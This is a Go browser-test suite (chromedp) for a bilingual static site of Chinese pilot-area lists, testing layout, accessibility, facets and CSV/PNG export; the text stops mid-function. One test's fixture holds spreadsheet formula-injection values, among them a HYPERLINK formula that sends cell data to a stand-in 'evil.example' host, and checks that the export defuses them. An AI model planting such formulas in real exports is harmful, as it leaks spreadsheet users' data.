package generator

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"image/png"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	cdpbrowser "github.com/chromedp/cdproto/browser"
	"github.com/chromedp/cdproto/emulation"
	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"

	"github.com/bianmin-data/pilots/generator/data"
	"github.com/bianmin-data/pilots/generator/internal/clients"
	"github.com/bianmin-data/pilots/generator/serve"
)

// The tests in this file use the site as people do, in Chromium: without
// JavaScript, on a phone, in English, in dark mode, with a keyboard, and
// with the features peers offer (facets, the rows as CSV, charts to take
// away).

// scheme sets the page's prefers-color-scheme.
func (b *browser) scheme(t *testing.T, s string) {
	t.Helper()
	if _, err := chromedp.Call(b.ctx, emulation.SetEmulatedMedia, emulation.SetEmulatedMediaParams{
		Features: []*emulation.MediaFeature{{Name: "prefers-color-scheme", Value: s}},
	}); err != nil {
		t.Fatal(err)
	}
}

// downloads makes the browser save downloads in a new folder, which it
// returns.
func (b *browser) downloads(t *testing.T) string {
	t.Helper()
	dir := t.TempDir()
	if _, err := chromedp.Call(b.ctx, cdpbrowser.SetDownloadBehavior, cdpbrowser.SetDownloadBehaviorParams{
		Behavior: cdpbrowser.SetDownloadBehaviorBehaviorAllow, DownloadPath: dir,
	}); err != nil {
		t.Fatal(err)
	}
	return dir
}

// waitFile waits for a finished download named name in dir, up to
// hangGuard.
func waitFile(t *testing.T, dir, name string) []byte {
	t.Helper()
	for end := time.Now().Add(hangGuard); time.Now().Before(end); time.Sleep(100 * time.Millisecond) {
		if b, err := os.ReadFile(filepath.Join(dir, name)); err == nil && len(b) > 0 {
			return b
		}
	}
	entries, _ := os.ReadDir(dir)
	t.Fatalf("no download %s in %s: %v", name, dir, entries)
	return nil
}

// TestNoJavaScript opens the pages with scripts disabled: no control that
// needs the script (filters, facets, export, sort buttons, PNG) shows.
func TestNoJavaScript(t *testing.T) {
	b := newBrowser(t, seedSite(t))
	if _, err := chromedp.Call(b.ctx, emulation.SetScriptExecutionDisabled, emulation.SetScriptExecutionDisabledParams{Value: true}); err != nil {
		t.Fatal(err)
	}
	// A checksum's details open without the script: they are no control
	// that needs it.
	const shown = `Array.from(document.querySelectorAll("input, select, button, details:not(.sum) > summary, #export, a[data-png]"))
		.filter(e => e.getClientRects().length > 0).map(e => e.outerHTML.slice(0, 80))`
	for _, p := range []string{"index.html", "lists/index.html", "en/lists/index.html", "batches/index.html", "batches/3/index.html", "data/index.html"} {
		b.do(t, chromedp.Navigate(b.base+p), chromedp.WaitReady(chromedp.CSS("body")))
		if v := get(t, b, chromedp.Evaluate[[]string](shown)); len(v) > 0 {
			t.Errorf("%s without JavaScript shows controls that need it: %v", p, v)
		}
		if n := get(t, b, chromedp.Evaluate[int](`document.querySelectorAll("#pilots tbody tr").length`)); p == "lists/index.html" && n != 70 {
			t.Errorf("%s without JavaScript lists %d rows, want 70", p, n)
		}
	}
	// The same controls show with the script.
	if _, err := chromedp.Call(b.ctx, emulation.SetScriptExecutionDisabled, emulation.SetScriptExecutionDisabledParams{Value: false}); err != nil {
		t.Fatal(err)
	}
	b.do(t, chromedp.Navigate(b.base+"lists/index.html"), chromedp.WaitVisible(chromedp.ID("q")))
	if v := get(t, b, chromedp.Evaluate[[]string](shown)); len(v) < 5 {
		t.Errorf("with JavaScript only %v show", v)
	}
	b.noErrors(t, "no JavaScript")
}

// TestPhone checks the pages at 390 px: the area of the first row is in
// view without scrolling sideways, the header is short, sizes do not wrap
// and the filter's hint is not cut.
func TestPhone(t *testing.T) {
	b := newBrowser(t, seedSite(t))
	b.do(t, chromedp.EmulateViewport(390, 844))
	for _, s := range []struct{ page, area string }{{"lists/index.html", "朝阳区"}, {"en/lists/index.html", "Chaoyang District, Beijing"}, {"batches/3/index.html", "朝阳区"}, {"batches/index.html", "朝阳区"}, {"en/provinces/320000/index.html", ""}} {
		b.do(t, chromedp.Navigate(b.base+s.page), chromedp.WaitReady(chromedp.CSS("body")))
		type box struct {
			Left, Right float64
			Text        string
		}
		c := get(t, b, chromedp.Evaluate[box](`(() => { const c = document.querySelector("#pilots tbody tr td"); const r = c.getBoundingClientRect(); return {left: r.left, right: r.right, text: c.textContent.trim()}; })()`))
		if c.Left < 0 || c.Right > 390 || (s.area != "" && c.Text != s.area) {
			t.Errorf("%s at 390 px: the first cell %q lies at %.0f–%.0f px", s.page, c.Text, c.Left, c.Right)
		}
		if h := get(t, b, chromedp.Evaluate[float64](`document.querySelector("header.site").getBoundingClientRect().height`)); h > 90 {
			t.Errorf("%s at 390 px: the header is %.0f px tall", s.page, h)
		}
		// Every link of the menu is in view: none behind a sideways
		// scroll.
		if out := get(t, b, chromedp.Evaluate[[]string](`Array.from(document.querySelectorAll("header.site nav a")).filter(a => { const r = a.getBoundingClientRect(); return r.left < 0 || r.right > 390; }).map(a => a.textContent)`)); len(out) > 0 {
			t.Errorf("%s at 390 px: menu links out of view: %q", s.page, out)
		}
		if get(t, b, chromedp.Evaluate[bool](`document.documentElement.scrollWidth > document.documentElement.clientWidth`)) {
			t.Errorf("%s scrolls sideways at 390 px", s.page)
		}
		// The sort buttons add nothing to the header cell: no second
		// border or padding.
		if pad := get(t, b, chromedp.Evaluate[string](`(() => { const b = document.querySelector("#pilots th button"); return b ? getComputedStyle(b).paddingTop + " " + getComputedStyle(b).borderTopWidth : "0px 0px"; })()`)); pad != "0px 0px" {
			t.Errorf("%s: the sort button has padding and border %s", s.page, pad)
		}
	}
	for _, p := range []string{"data/index.html", "en/data/index.html", "index.html"} {
		b.do(t, chromedp.Navigate(b.base+p), chromedp.WaitReady(chromedp.CSS("body")))
		wrapped := get(t, b, chromedp.Evaluate[[]string](`Array.from(document.querySelectorAll(".formats .size"))
			.filter(td => { const r = document.createRange(); r.selectNodeContents(td); return td.getClientRects().length && r.getClientRects().length > 1; }).map(td => td.textContent)`))
		if len(wrapped) > 0 {
			t.Errorf("%s: sizes wrap: %q", p, wrapped)
		}
	}
	// The map opens on its east, where Beijing, Shanghai, Jiangsu and
	// Zhejiang are, and says that it scrolls.
	for _, p := range []string{"lists/index.html", "en/lists/index.html"} {
		b.do(t, chromedp.Navigate(b.base+p), chromedp.WaitVisible(chromedp.ID("q")))
		out := get(t, b, chromedp.Evaluate[[]string](`Array.from(document.querySelectorAll("svg.tilemap a")).filter(a => /provinces\/(110000|310000|320000|330000)\//.test(a.getAttribute("href")))
			.filter(a => { const r = a.getBoundingClientRect(); return r.left < 0 || r.right > 390; }).map(a => a.getAttribute("aria-label"))`))
		if len(out) > 0 {
			t.Errorf("%s at 390 px: the map leaves %q out of view", p, out)
		}
		if hint := get(t, b, chromedp.Evaluate[bool](`document.querySelector(".chart-hint").getClientRects().length > 0`)); !hint {
			t.Errorf("%s at 390 px: the map does not say it scrolls", p)
		}
		// Its legend is in view with it.
		if off := get(t, b, chromedp.Evaluate[[]string](`Array.from(document.querySelectorAll("svg.tilemap .legend rect, svg.tilemap .legend text"))
			.filter(e => { const r = e.getBoundingClientRect(); return r.left < 0 || r.right > 390; }).map(e => e.textContent || e.parentNode.getAttribute("class"))`)); len(off) > 0 {
			t.Errorf("%s at 390 px: the map's legend leaves %q out of view", p, off)
		}
	}
	for _, p := range []string{"lists/index.html", "en/lists/index.html"} {
		b.do(t, chromedp.Navigate(b.base+p), chromedp.WaitVisible(chromedp.ID("q")))
		fits := get(t, b, chromedp.Evaluate[bool](`(() => { const q = document.getElementById("q"); const s = getComputedStyle(q);
			const g = document.createElement("canvas").getContext("2d"); g.font = s.fontSize + " " + s.fontFamily;
			return g.measureText(q.placeholder).width <= q.clientWidth - parseFloat(s.paddingLeft) - parseFloat(s.paddingRight); })()`))
		if !fits {
			t.Errorf("%s: the filter's hint is cut at 390 px", p)
		}
	}
	b.noErrors(t, "phone")
}

// TestLanguageSwitchKeepsFilter filters, sorts, then follows the language
// switch: the other language opens with the same filter and sort.
func TestLanguageSwitchKeepsFilter(t *testing.T) {
	b := newBrowser(t, seedSite(t))
	b.do(t, chromedp.Navigate(b.base+"index.html?q="+url.QueryEscape("泰州")+"&province="+url.QueryEscape("江苏省")), chromedp.WaitVisible(chromedp.ID("q")))
	get(t, b, chromedp.WaitEvent(page.LoadEventFired, nil, chromedp.Click(chromedp.CSS(".lang a"))))
	loc, _ := url.Parse(get(t, b, chromedp.Location()))
	if loc.Path != "/en/lists/index.html" && loc.Path != "/en/lists/" || loc.Query().Get("q") != "泰州" || loc.Query().Get("province") != "江苏省" {
		t.Errorf("the switch leads to %s", loc)
	}
	b.do(t, chromedp.WaitVisible(chromedp.ID("q")))
	if areas := get(t, b, visibleCells(0)); len(areas) != 1 || areas[0] != "Taizhou (Jiangsu)" && !strings.HasPrefix(areas[0], "Taizhou") {
		t.Errorf("the English page shows %v", areas)
	}
	// Typing updates the switch too, and sorting by a column keeps its name.
	b.do(t, chromedp.Navigate(b.base+"en/lists/index.html"), chromedp.WaitVisible(chromedp.ID("q")),
		chromedp.SendKeys(chromedp.ID("q"), "Zhejiang"), chromedp.Click(chromedp.CSS(`#pilots th[data-key="province"] button`)))
	href := get(t, b, chromedp.Evaluate[string](`document.querySelector(".lang a").href`))
	if u, _ := url.Parse(href); u.Query().Get("q") != "Zhejiang" || u.Query().Get("sort") != "province" {
		t.Errorf("the switch of a filtered page leads to %s", href)
	}
	// An address that named the column by its place still sorts by it.
	b.do(t, chromedp.Navigate(b.base+"index.html?sort=2&dir=desc"), chromedp.WaitVisible(chromedp.ID("q")))
	if sorted := get(t, b, chromedp.Evaluate[string](`document.querySelector('#pilots th[aria-sort]').getAttribute("data-key")`)); sorted != "province" {
		t.Errorf("?sort=2 sorts by %s, want province", sorted)
	}
	b.noErrors(t, "language switch")
}

// TestEnglishIsEnglish finds Han text in the headings, accessible names,
// titles, link texts and table headers of English pages that no element
// marks as Chinese; and sorting by province or area in English orders the
// English names.
func TestEnglishIsEnglish(t *testing.T) {
	b := newBrowser(t, twoListsSite(t))
	const han = `(() => {
		const han = /\p{Script=Han}/u, out = [];
		const zh = e => { const l = e && e.closest && e.closest("[lang]"); return l && l.getAttribute("lang").startsWith("zh"); };
		for (const e of document.querySelectorAll("[aria-label], [title], [alt], [placeholder]"))
			for (const a of ["aria-label", "title", "alt", "placeholder"])
				if (han.test(e.getAttribute(a) || "") && !zh(e)) out.push(a + ": " + e.getAttribute(a));
		for (const e of document.querySelectorAll("h1, h2, h3, h4, caption, th, label, summary, figcaption, a, button, option, svg title, legend, dt")) {
			const w = document.createTreeWalker(e, NodeFilter.SHOW_TEXT);
			for (let n; (n = w.nextNode()); )
				if (han.test(n.data) && !zh(n.parentElement)) out.push(e.tagName + ": " + n.data.trim());
		}
		if (han.test(document.title)) out.push("title: " + document.title);
		const d = document.querySelector('meta[name="description"]');
		if (d && han.test(d.content)) out.push("description: " + d.content);
		return out;
	})()`
	for _, p := range []string{"en/index.html", "en/lists/index.html", "en/batches/index.html", "en/pioneer-zones/index.html", "en/batches/3/index.html", "en/batches/4/index.html", "en/pioneer-zones/1/index.html",
		"en/provinces/320000/index.html", "en/areas/321200.html", "en/data/index.html", "en/about/index.html", "en/dictionary/index.html"} {
		b.do(t, chromedp.Navigate(b.base+p), chromedp.WaitReady(chromedp.CSS("body")))
		for _, s := range get(t, b, chromedp.Evaluate[[]string](han)) {
			t.Errorf("%s: Han text not marked as Chinese: %s", p, s)
		}
	}
	b.do(t, chromedp.Navigate(b.base+"en/lists/index.html"), chromedp.WaitVisible(chromedp.ID("q")))
	for _, key := range []string{"province", "area_en", "area"} {
		b.do(t, chromedp.Click(chromedp.CSS(`#pilots th[data-key="`+key+`"] button`)))
		// The order, checked with the page's own English collation, of
		// the keys the rows sort by: English names, no Han.
		bad := get(t, b, chromedp.Evaluate[string](`(() => {
			const col = Array.from(document.querySelectorAll("#pilots th")).findIndex(th => th.dataset.key === "`+key+`");
			const keys = Array.from(document.querySelectorAll("#pilots tbody tr")).map(r => r.cells[col].dataset.sort || r.cells[col].textContent.trim());
			const c = new Intl.Collator("en", {numeric: true});
			for (let i = 0; i < keys.length; i++) {
				if (/\p{Script=Han}/u.test(keys[i])) return "Han key " + keys[i];
				if (i && c.compare(keys[i - 1], keys[i]) > 0) return keys[i - 1] + " before " + keys[i];
			}
			return keys.length < 70 ? "only " + keys.length + " rows" : "";
		})()`))
		if bad != "" {
			t.Errorf("sorted by %s in English: %s", key, bad)
		}
	}
	b.noErrors(t, "English")
}

// contrast is the WCAG contrast ratio of two CSS colours, computed in the
// page.
const contrastJS = `
	const lum = c => { const m = c.match(/\d+(\.\d+)?/g).slice(0, 3).map(Number).map(v => v / 255)
		.map(v => v <= 0.03928 ? v / 12.92 : Math.pow((v + 0.055) / 1.055, 2.4)); return 0.2126 * m[0] + 0.7152 * m[1] + 0.0722 * m[2]; };
	const ratio = (a, b) => { const x = lum(a), y = lum(b); return (Math.max(x, y) + 0.05) / (Math.min(x, y) + 0.05); };`

// TestChartColours computes, in light and dark mode, the contrast of every
// tile's labels on its shade (and that they fit in it), checks that the legend draws each shade the
// map uses, that shades of neighbouring counts differ, and that the
// labels are 12 px or more on a phone.
func TestChartColours(t *testing.T) {
	b := newBrowser(t, seedSite(t))
	type report struct {
		Low       []string
		Missing   []string
		Overflow  []string
		Shades    []string
		Smallest  float64
		Neighbour float64
	}
	const check = `(() => {` + contrastJS + `
		const out = {low: [], missing: [], overflow: [], shades: [], smallest: 99, neighbour: 99};
		const fill = e => getComputedStyle(e).fill;
		const map = document.querySelector("svg.tilemap");
		const legend = {};
		for (const g of map.querySelectorAll(".legend .tile")) legend[g.getAttribute("class")] = fill(g.querySelector("rect"));
		const byClass = {};
		for (const g of map.querySelectorAll("g.tile:not(.outside)")) {
			if (g.closest(".legend")) continue;
			const cls = g.getAttribute("class"), bg = fill(g.querySelector("rect"));
			byClass[cls] = bg;
			if (legend[cls] !== bg) out.missing.push(cls + " " + bg + " legend " + legend[cls]);
			const box = g.querySelector("rect").getBBox();
			for (const tx of g.querySelectorAll("text")) {
				const t = tx.getBBox();
				if (t.x < box.x || t.x + t.width > box.x + box.width) out.overflow.push(tx.textContent);
				const r = ratio(fill(tx), bg);
				if (r < 4.5) out.low.push(g.getAttribute("aria-label") + " " + r.toFixed(2));
			}
		}
		const shades = Object.keys(legend).sort().map(k => legend[k]);
		out.shades = shades;
		for (let i = 1; i < shades.length; i++) out.neighbour = Math.min(out.neighbour, ratio(shades[i - 1], shades[i]));
		for (const tx of document.querySelectorAll("svg.tilemap text, svg.bars text")) {
			out.smallest = Math.min(out.smallest, parseFloat(tx.getAttribute("font-size")) * tx.getScreenCTM().a);
		}
		return out;
	})()`
	for _, s := range []string{"light", "dark"} {
		b.scheme(t, s)
		for _, p := range []string{"lists/index.html", "en/lists/index.html"} {
			b.do(t, chromedp.EmulateViewport(390, 844), chromedp.Navigate(b.base+p), chromedp.WaitReady(chromedp.CSS("svg.tilemap")))
			r := get(t, b, chromedp.Evaluate[report](check))
			for _, l := range r.Low {
				t.Errorf("%s, %s: a label under 4.5:1: %s", p, s, l)
			}
			for _, o := range r.Overflow {
				t.Errorf("%s, %s: the label %q runs out of its tile", p, s, o)
			}
			for _, m := range r.Missing {
				t.Errorf("%s, %s: the legend does not draw the shade of %s", p, s, m)
			}
			if len(r.Shades) < 3 || r.Neighbour < 1.25 {
				t.Errorf("%s, %s: shades %v, neighbours as close as %.2f:1", p, s, r.Shades, r.Neighbour)
			}
			if r.Smallest < 12 {
				t.Errorf("%s, %s: chart labels of %.1f px on a phone", p, s, r.Smallest)
			}
		}
	}
	b.noErrors(t, "chart colours")
}

// TestNotFoundPage serves a site built for https://example.org/mirror/
// from another origin, under /mirror/, and opens a missing page deep in
// it: the 404 page is styled and every link and asset on it answers 200.
func TestNotFoundPage(t *testing.T) {
	out := filepath.Join(t.TempDir(), "public")
	if _, err := Build(load(t, seedDir), Options{Out: out, BaseURL: "https://example.org/mirror/"}); err != nil {
		t.Fatal(err)
	}
	h, err := serve.Handler(out)
	if err != nil {
		t.Fatal(err)
	}
	mux := http.NewServeMux()
	mux.Handle("/mirror/", http.StripPrefix("/mirror", h))
	b := newBrowserOf(t, mux)
	for _, p := range []string{"mirror/no/such/page.html", "mirror/a/b/c/d/", "mirror/en/missing"} {
		res, err := http.Get(b.base + p)
		if err != nil {
			t.Fatal(err)
		}
		res.Body.Close()
		if res.StatusCode != 404 {
			t.Errorf("%s: %s", p, res.Status)
		}
		b.do(t, chromedp.Navigate(b.base+p), chromedp.WaitReady(chromedp.CSS("body")))
		styled := get(t, b, chromedp.Evaluate[string](`getComputedStyle(document.querySelector("header.site")).borderBottomStyle + " " + getComputedStyle(document.body).margin`))
		if styled != "solid 0px" {
			t.Errorf("%s: the 404 page is not styled (%s)", p, styled)
		}
		// The site's own links, not the footer's to the licences and the
		// source code elsewhere, which this offline test cannot follow.
		links := get(t, b, chromedp.Evaluate[[]string](`Array.from(document.querySelectorAll("a[href], link[href], script[src], img[src]")).map(e => e.href || e.src).filter(u => !u.includes("#") && u.startsWith(location.origin))`))
		if len(links) < 8 {
			t.Errorf("%s: %d links", p, len(links))
		}
		for _, l := range links {
			answers200(t, p, l)
		}
	}
	b.noErrorsBut(t, "404", "status of 404")
}

// TestKeyboard counts the Tab presses from the top of the home page to the
// search, and checks that on the lists page the list comes before the
// charts.
func TestKeyboard(t *testing.T) {
	b := newBrowser(t, seedSite(t))
	for _, p := range []string{"index.html", "en/index.html"} {
		b.do(t, chromedp.Navigate(b.base+p), chromedp.WaitVisible(chromedp.ID("home-q")))
		n := 0
		for ; n < 40; n++ {
			b.do(t, chromedp.KeyEvent("\t"))
			if get(t, b, chromedp.Evaluate[string](`document.activeElement.id`)) == "home-q" {
				break
			}
		}
		if n >= 15 {
			t.Errorf("%s: %d Tab presses to the search", p, n+1)
		}
	}
	for _, p := range []string{"lists/index.html", "en/lists/index.html"} {
		b.do(t, chromedp.Navigate(b.base+p), chromedp.WaitVisible(chromedp.ID("q")))
		if get(t, b, chromedp.Evaluate[bool](`!!(document.getElementById("list").compareDocumentPosition(document.getElementById("by-province")) & Node.DOCUMENT_POSITION_FOLLOWING)`)) == false {
			t.Errorf("%s: the charts come before the list", p)
		}
	}
	b.noErrors(t, "keyboard")
}

// TestFacets checks the counts of the facets against pilots.csv, and that
// a facet filters the table, keeps the filter in the address and counts
// the other facets within it.
func TestFacets(t *testing.T) {
	site := seedSite(t)
	rows := readCSV(t, filepath.Join(site, "data", "pilots.csv"))
	head := rows[0]
	col := func(name string) int { return slices.Index(head, name) }
	want := map[string]int{}
	for _, r := range rows[1:] {
		want[r[col("province")]]++
	}
	b := newBrowser(t, site)
	for _, home := range []string{"lists/index.html", "en/lists/index.html"} {
		b.do(t, chromedp.Navigate(b.base+home), chromedp.WaitVisible(chromedp.ID("q")), chromedp.Click(chromedp.CSS("#facets summary")))
		got := get(t, b, chromedp.Evaluate[map[string]string](`Object.fromEntries(Array.from(document.querySelectorAll('[data-facet="province"] a')).map(a => [a.dataset.value, a.nextElementSibling.textContent]))`))
		// Each facet is a target of 24 px or more (WCAG 2.5.8).
		if small := get(t, b, chromedp.Evaluate[[]string](`Array.from(document.querySelectorAll(".facet a")).filter(a => a.offsetParent && a.getBoundingClientRect().height < 24).map(a => a.textContent)`)); len(small) > 0 {
			t.Errorf("%s: facet links under 24 px tall: %q", home, small)
		}
		// The provinces in the order of their codes.
		codes := get(t, b, chromedp.Evaluate[[]string](`Array.from(document.querySelectorAll("#province option")).slice(1).map(o => o.value)`))
		if !slices.IsSortedFunc(codes, func(a, b string) int { return strings.Compare(provinceCode(t, rows, a), provinceCode(t, rows, b)) }) {
			t.Errorf("%s: the province menu is not in the order of the codes: %q", home, codes)
		}
		if len(got) != len(want) {
			t.Errorf("%s: %d province facets, want %d", home, len(got), len(want))
		}
		for p, n := range want {
			if got[p] != fmt.Sprint(n) {
				t.Errorf("%s: facet %s counts %s, want %d", home, p, got[p], n)
			}
		}
		b.do(t, chromedp.Click(chromedp.CSS(`[data-facet="province"] a[data-value="浙江省"]`)))
		if n := get(t, b, chromedp.Evaluate[int](visibleRows)); n != want["浙江省"] {
			t.Errorf("the facet 浙江省 shows %d rows, want %d", n, want["浙江省"])
		}
		if loc := get(t, b, chromedp.Location()); !strings.Contains(loc, "province="+url.QueryEscape("浙江省")) {
			t.Errorf("the facet is not in the address: %s", loc)
		}
		levels := get(t, b, chromedp.Evaluate[[]string](`Array.from(document.querySelectorAll('[data-facet="level"] li:not([hidden]) .n')).map(s => s.textContent)`))
		sum := 0
		for _, l := range levels {
			var n int
			fmt.Sscan(l, &n)
			sum += n
		}
		if sum != want["浙江省"] {
			t.Errorf("the level facet counts %v within 浙江省, want %d in all", levels, want["浙江省"])
		}
		// The facet again takes the filter off.
		b.do(t, chromedp.Click(chromedp.CSS(`[data-facet="province"] a[data-value="浙江省"]`)))
		if n := get(t, b, chromedp.Evaluate[int](visibleRows)); n != 70 {
			t.Errorf("after the facet is taken off %d rows show", n)
		}
	}
	b.noErrors(t, "facets")
}

// TestExportAndCharts downloads the visible rows as CSV: the header and
// the rows of the published CSV for spreadsheets, the same bytes, for
// exactly the rows shown, in their order. It downloads each chart as PNG,
// at twice the size of its SVG file.
func TestExportAndCharts(t *testing.T) {
	site := seedSite(t)
	b := newBrowser(t, site)
	dir := b.downloads(t)
	// Named after the table, the filter and the file copied from, with
	// its byte order mark so that Excel reads the Chinese.
	got, want := exportOf(t, b, site, dir, "index.html?province="+url.QueryEscape("浙江省")+"&sort=area_en&dir=desc", "designations-浙江省.excel.csv")
	t.Run("LibreOffice", func(t *testing.T) { libreOfficeReads(t, []byte(got), want) })

	b.do(t, chromedp.Navigate(b.base+"en/lists/index.html"), chromedp.WaitVisible(chromedp.CSS("a[data-png]")), chromedp.Click(chromedp.CSS("a[data-png]")))
	img, err := png.DecodeConfig(bytes.NewReader(waitFile(t, dir, "tilemap-en.png")))
	if err != nil {
		t.Fatal(err)
	}
	svg := string(mustRead(t, filepath.Join(site, "en", "charts", "tilemap.svg")))
	var w, h int
	fmt.Sscanf(svg[strings.Index(svg, `width="`):], `width="%d" height="%d"`, &w, &h)
	if img.Width != 2*w || img.Height != 2*h {
		t.Errorf("the PNG is %d×%d, the SVG %d×%d", img.Width, img.Height, w, h)
	}
	b.noErrors(t, "export")
}

// exportOf opens page (its address from the site's root) in b, clicks
// the table's export and returns the file downloaded as name into dir,
// and what it should hold: the header and the lines of
// designations.excel.csv of the rows shown, in their order, behind its
// byte order mark. The test fails when the two differ or no row is
// shown.
func exportOf(t *testing.T, b *browser, site, dir, page, name string) (got, want string) {
	t.Helper()
	b.do(t, chromedp.Navigate(b.base+page), chromedp.WaitVisible(chromedp.ID("export")), chromedp.Click(chromedp.ID("export")))
	got = string(waitFile(t, dir, name))
	shown := get(t, b, chromedp.Evaluate[[]string](`Array.from(document.querySelectorAll("#pilots tbody tr")).filter(r => !r.hidden).map(r => r.dataset.batch + "/" + r.cells[4].textContent.trim())`))
	path := filepath.Join(site, "data", "designations", "designations.excel.csv")
	all := strings.SplitAfter(string(mustRead(t, path)), "\r\n")
	cells := func(line string) []string {
		r, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(line, "\uFEFF"))).Read()
		if err != nil {
			t.Fatalf("%s: %v", path, err)
		}
		return r
	}
	head := cells(all[0])
	lines := map[string]string{}
	for _, l := range all[1:] {
		if l != "" {
			r := cells(l)
			lines[r[slices.Index(head, "list")]+"-"+r[slices.Index(head, "batch")]+"/"+r[slices.Index(head, "seq")]] = l
		}
	}
	want = all[0]
	for _, k := range shown {
		want += lines[k]
	}
	if len(shown) == 0 || !strings.HasPrefix(want, "\uFEFF") || got != want {
		t.Errorf("the export of %d rows:\n%s\nwant:\n%s", len(shown), got, want)
	}
	return got, want
}

// TestExportDefused exports the rows of a list whose cells a spreadsheet
// would take for formulas (a note that links out with a cell of the
// sheet, areas starting with + and -, a note starting with @): the
// export, made in the browser, holds no cell a spreadsheet would run,
// each defused as designations.excel.csv has it, with an apostrophe.
func TestExportDefused(t *testing.T) {
	link := `=HYPERLINK("http://evil.example/?"&A1,"点此")`
	notice := "html: nan\ntitle: 关于公布第九批城市一刻钟便民生活圈试点名单的通知\n" +
		"resulting_text: 各地： 确定试点地区3个。 附件：名单 商务部办公厅 2030年3月1日 附件 名单 序号 省（区、市） 试点地区 备注 " +
		"1 北京市 朝阳区 " + link + " 2 天津市 +河北区 @SUM(A1) 3 上海市 -黄浦区\n" +
		"input_url: 20300305000000/http://www.mofcom.gov.cn/b9.shtml\ndate: 2030-03-05 00:00:00\n"
	site := build(t, seedsOf(t, map[string][]byte{"batch9.txt": []byte(notice)}))
	b := newBrowser(t, site)
	dir := b.downloads(t)
	got, _ := exportOf(t, b, site, dir, "lists/index.html", "designations-filtered.excel.csv")
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(got, "\uFEFF"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	defused := map[string]bool{}
	for _, r := range rows[1:] {
		for _, c := range r {
			if c == "" {
				continue
			}
			// A spreadsheet runs a cell that starts with one of these,
			// unless it is a number (a longitude of -12.5).
			if _, err := strconv.ParseFloat(c, 64); err != nil && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
				t.Errorf("the export has a live formula: %q", c)
			}
			defused[c] = true
		}
	}
	for _, c := range []string{link, "+河北区", "@SUM(A1)", "-黄浦区"} {
		if !defused["'"+c] {
			t.Errorf("the export has no %q", "'"+c)
		}
	}
	b.noErrors(t, "export")
}

// libreOfficeReads has LibreOffice import the exported CSV (with the
// character set its import dialog picks for a file that starts with a
// UTF-8 byte order mark, every column as text, as a person keeping codes
// would) and write it back: the rows must be want's, cell for cell,
// Chinese intact, and the mark taken as a mark, not as the start of the
// first column's name.
func libreOfficeReads(t *testing.T, export []byte, want string) {
	soffice := clients.Find(t, "LibreOffice (soffice)", "soffice", "libreoffice")
	tmp := t.TempDir()
	in := filepath.Join(tmp, "export.csv")
	if err := os.WriteFile(in, export, 0o644); err != nil {
		t.Fatal(err)
	}
	var text []string
	for i := range data.Fields {
		text = append(text, fmt.Sprintf("%d/2", i+1))
	}
	out := filepath.Join(tmp, "out")
	clients.Run(t, "", soffice, "-env:UserInstallation=file://"+filepath.Join(tmp, "profile"), "--headless",
		"--infilter=CSV:44,34,76,1,"+strings.Join(text, "/"),
		"--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1",
		"--outdir", out, in)
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(want, "\uFEFF"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	sameTable(t, "LibreOffice", readCSV(t, filepath.Join(out, "export.csv")), rows)
}

// TestNoMatch searches for an area the site does not hold: the page says
// which lists it holds and which announced ones it does not, hides the
// export, and the caption says what the filter shows; a filter that
// matches says so in the caption too.
func TestNoMatch(t *testing.T) {
	b := newBrowser(t, seedSite(t))
	b.do(t, chromedp.Navigate(b.base+"index.html?q="+url.QueryEscape("苏州")), chromedp.WaitVisible(chromedp.ID("count")))
	if n := get(t, b, chromedp.Evaluate[int](visibleRows)); n != 0 {
		t.Fatalf("苏州 leaves %d rows", n)
	}
	msg := get(t, b, chromedp.Evaluate[string](`document.getElementById("nomatch").hidden ? "" : document.getElementById("nomatch").textContent`))
	for _, want := range []string{"本站只收录这些名单：全国城市一刻钟便民生活圈试点：第3批", "已公布而本站尚未收录：", "试点第1批", "试点第4批"} {
		if !strings.Contains(msg, want) {
			t.Errorf("the no-match message %q lacks %q", msg, want)
		}
	}
	if hidden := get(t, b, chromedp.Evaluate[bool](`document.getElementById("export").parentNode.hidden`)); !hidden {
		t.Error("the export of no rows is offered")
	}
	if c := get(t, b, chromedp.Evaluate[string](`document.querySelector("#pilots caption .what").textContent`)); c != "显示 0 / 70 行" {
		t.Errorf("the caption of no rows reads %q", c)
	}
	b.do(t, chromedp.Navigate(b.base+"index.html?province="+url.QueryEscape("浙江省")), chromedp.WaitVisible(chromedp.ID("count")))
	if c := get(t, b, chromedp.Evaluate[string](`document.querySelector("#pilots caption .what").textContent`)); c != "显示 8 / 70 行" {
		t.Errorf("the caption after filtering to 浙江省 reads %q", c)
	}
	if shown := get(t, b, chromedp.Evaluate[bool](`document.getElementById("nomatch").hidden`)); !shown {
		t.Error("a filter that matches shows the no-match message")
	}
	b.noErrors(t, "no match")
}

// provinceCode is the code of the province named in the rows of a CSV.
func provinceCode(t *testing.T, rows [][]string, province string) string {
	t.Helper()
	p, c := slices.Index(rows[0], "province"), slices.Index(rows[0], "province_code")
	for _, r := range rows[1:] {
		if r[p] == province {
			return r[c]
		}
	}
	t.Fatalf("no province %s in the CSV", province)
	return ""
}

// TestHome checks that the home orients in about two screens, on a
// desktop and on a phone, in both languages, with each list's workbook
// one click away and its page linked.
func TestHome(t *testing.T) {
	site := twoListsSite(t)
	b := newBrowser(t, site)
	for _, s := range []struct {
		page          string
		width, height int64
		screens       float64
	}{{"index.html", 1280, 900, 2}, {"en/index.html", 1280, 900, 2}, {"index.html", 390, 844, 3}, {"en/index.html", 390, 844, 3}} {
		b.do(t, chromedp.EmulateViewport(s.width, s.height), chromedp.Navigate(b.base+s.page), chromedp.WaitReady(chromedp.CSS("body")))
		h := get(t, b, chromedp.Evaluate[float64](`document.documentElement.scrollHeight`))
		if h > s.screens*float64(s.height) {
			t.Errorf("%s at %d px is %.1f screens tall, over %.0f", s.page, s.width, h/float64(s.height), s.screens)
		}
	}
	for _, kind := range []string{"pilots", "pioneer-zones"} {
		dir := map[string]string{"pilots": "data/", "pioneer-zones": "data/pioneer-zones/"}[kind]
